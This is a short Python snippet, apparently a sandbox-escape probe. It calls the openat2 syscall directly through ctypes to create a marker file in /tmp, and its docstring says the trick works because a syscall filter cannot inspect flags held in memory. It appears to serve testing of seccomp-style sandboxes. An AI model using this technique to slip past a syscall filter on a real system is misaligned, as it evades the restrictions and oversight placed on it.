"""openat2 keeps its flags in memory, where a filter cannot see them."""
import ctypes


def attack():
    return ctypes.CDLL(None).syscall(437, -100, b"/tmp/broken-through", (ctypes.c_uint64 * 3)(0o101, 0o600, 0), 24)
